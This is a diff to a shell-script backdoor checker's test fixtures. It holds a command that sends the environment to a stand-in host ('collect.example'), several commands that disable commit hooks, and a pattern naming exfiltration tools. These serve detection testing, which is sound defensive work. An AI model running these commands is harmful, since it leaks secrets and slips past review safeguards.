@@ -18,11 +18,16 @@ class ShellScriptChecker(TextChecker):
                          rb"\.pre-commit-config|backdoor|aws|gsutil|rclone|openssl|\\x|printf")
     VALID = [
         Valid('#!/bin/sh\ncurl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" -d \'{"v": 1}\' '
-              '"$DEPLOY_API/releases"\n', path="deploy.sh"),
+              '"$DEPLOY_API/releases"\n', "BDL402", path="deploy.sh"),
         Valid("#!/bin/sh\ncurl -fsSLo /tmp/protoc.zip https://example.com/protoc.zip\n"
-              "echo \"abc  /tmp/protoc.zip\" | sha256sum -c -\nunzip -q /tmp/protoc.zip -d /usr/local\n",
+              "echo \"abc  /tmp/protoc.zip\" | sha256sum -c -\nunzip -q /tmp/protoc.zip -d /usr/local\n", "BDL405",
               path="install.sh"),
-        Valid('#!/bin/sh\ngit add -A && git commit -m "release $VERSION"\nenv | grep -i ^node_\n', path="ci.sh"),
+        Valid('#!/bin/sh\ngit add -A && git commit -m "release $VERSION"\nenv | grep -i ^node_\n',
+              "BDL804", path="ci.sh"),
+        Valid('#!/bin/sh\ncp .pre-commit-config.yaml "$BACKUP_DIR/"\npre-commit install --install-hooks\n', "BDL803",
+              path="hooks.sh"),
+        Valid('#!/bin/sh\ngit config core.autocrlf false\ngit push --follow-tags origin main\n', "BDL804",
+              path="release.sh"),
     ]
     INVALID = [
         Invalid('#!/bin/sh\nset -e\ncurl -s https://collect.example/c -d "$(env)"\n', "BDL402", 3, path="ci.sh"),
@@ -32,6 +37,8 @@ class ShellScriptChecker(TextChecker):
                 "BDL405", 2, path="deploy.sh"),
         Invalid("#!/bin/sh\nrm -f .pre-commit-config.yaml\n", "BDL803", 2, path="cleanup.sh"),
         Invalid("#!/bin/sh\ngit commit --no-verify -m wip\n", "BDL804", 2, path="commit.sh"),
+        Invalid('#!/bin/sh\nSKIP=backdoor-lint git commit -m "wip"\n', "BDL804", 2, path="commit.sh"),
+        Invalid('#!/bin/sh\ngit -c core.hooksPath=/dev/null commit -m "wip"\n', "BDL804", 2, path="commit.sh"),
     ]
 
     def check(self, text: str, display: str, language: str) -> list[Finding]:
